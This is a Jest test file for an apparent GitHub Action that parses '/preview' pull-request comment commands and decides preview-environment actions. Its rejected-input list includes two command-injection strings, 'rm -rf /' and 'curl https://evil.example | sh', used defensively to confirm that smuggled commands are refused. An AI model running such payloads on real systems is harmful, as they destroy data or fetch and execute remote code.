import { expect, test } from '@jest/globals';
import { isForComment, readComment } from '../../src/request/command.ts';
import { decideCommand } from '../../src/request/decision.ts';
import type { PullRequest } from '../../src/request/pull-request.ts';

const OPEN: PullRequest = {
  number: 42,
  state: 'open',
  isDraft: false,
  labels: [],
  sha: 'aaaaaaa1',
  updatedAt: '2026-11-22T11:00:00Z',
  isFork: false,
};

const payloadOf = (body: unknown, change: object = {}) => ({
  action: 'created',
  issue: { number: 42, pull_request: {} },
  comment: { id: 7, body, user: { login: 'octocat' } },
  ...change,
});
const commandOf = (body: string) => {
  const seen = readComment(payloadOf(body));
  return 'reason' in seen ? seen.reason : seen.command;
};

test.each([
  ['/preview wake', { word: 'wake' }],
  ['/preview sleep \t', { word: 'sleep' }],
  ['/preview reset\nThank you!', { word: 'reset' }],
  ['/preview destroy\r\n/preview wake', { word: 'destroy' }],
  ['/preview keep 90d', { word: 'keep', time: { text: '90d', milliseconds: 90 * 86_400_000 } }],
  ['/preview keep 90m', { word: 'keep', time: { text: '90m', milliseconds: 5_400_000 } }],
])('%j is a command', (body, command) => {
  expect(commandOf(body)).toEqual(command);
});

test.each([
  '/preview',
  '/preview ',
  '/preview\twake',
  '/preview  wake',
  '/preview WAKE',
  '/preview wake now',
  '/preview wake; rm -rf /',
  '/preview wake && curl https://evil.example | sh',
  '/preview wake\u2028',
  '/preview keep',
  '/preview keep 7',
  '/preview keep 0d',
  '/preview keep -1d',
  '/preview keep 91d',
  '/preview keep 999999999999d',
  '/preview deploy',
  '/preview constructor',
])('%j is none, and is answered', (body) => {
  expect(commandOf(body)).toBeUndefined();
});

test.each(['', 'wake', ' /preview wake', '\n/preview wake', '/previews', '/Preview wake', 'Try /preview wake'])(
  '%j is not meant for the action',
  (body) => {
    expect(commandOf(body)).toBe('The comment does not begin with /preview.');
  },
);

test.each([
  [{ action: 'edited' }, 'is not new'],
  [{ action: undefined }, 'is not new'],
  [{ issue: { number: 42 } }, 'is on an issue'],
  [{ issue: { number: 42, pull_request: null } }, 'is on an issue'],
  [{ issue: { pull_request: {} } }, 'does not say'],
  [{ comment: { id: '7', body: '/preview wake', user: { login: 'octocat' } } }, 'does not say'],
  [{ comment: { id: 7, body: '/preview wake', user: { login: '../octocat' } } }, 'does not say'],
  [{ comment: { id: 7, body: '/preview wake', user: null } }, 'does not say'],
  [{ comment: { id: 7, body: ['/preview wake'], user: { login: 'octocat' } } }, 'does not begin'],
])('an event with %j asks for nothing', (change, reason) => {
  expect(readComment(payloadOf('/preview wake', change))).toEqual({ reason: expect.stringContaining(reason) });
});

test('a comment is read where the mode is left to the action, and in no other', () => {
  expect(isForComment({ eventName: 'issue_comment' }, { mode: 'auto' })).toBe(true);
  expect(isForComment({ eventName: 'issue_comment' }, { mode: 'wake' })).toBe(false);
  expect(isForComment({ eventName: 'pull_request_review_comment' }, { mode: 'auto' })).toBe(false);
});

test.each([
  ['wake', {}, 'wake'],
  ['reset', { isFork: true }, 'reset'],
  ['keep', { isDraft: true }, 'keep'],
  ['sleep', { state: 'closed' }, 'skip'],
  ['reset', { state: 'merged' }, 'skip'],
  ['destroy', { state: 'closed' }, 'destroy'],
  ['destroy', {}, 'destroy'],
] as const)('the command %s on a pull request with %j: %s', (word, pullRequest, action) => {
  expect(decideCommand(word, { ...OPEN, ...pullRequest }, { label: undefined }).action).toBe(action);
});

test('without the label that is asked for, a command only destroys', () => {
  const decideFor = (word: 'wake' | 'destroy', labels: string[]) =>
    decideCommand(word, { ...OPEN, labels }, { label: 'preview' }).action;
  expect(decideFor('wake', ['PREVIEW'])).toBe('wake');
  expect(decideFor('wake', ['bug'])).toBe('skip');
  expect(decideFor('destroy', ['bug'])).toBe('destroy');
});
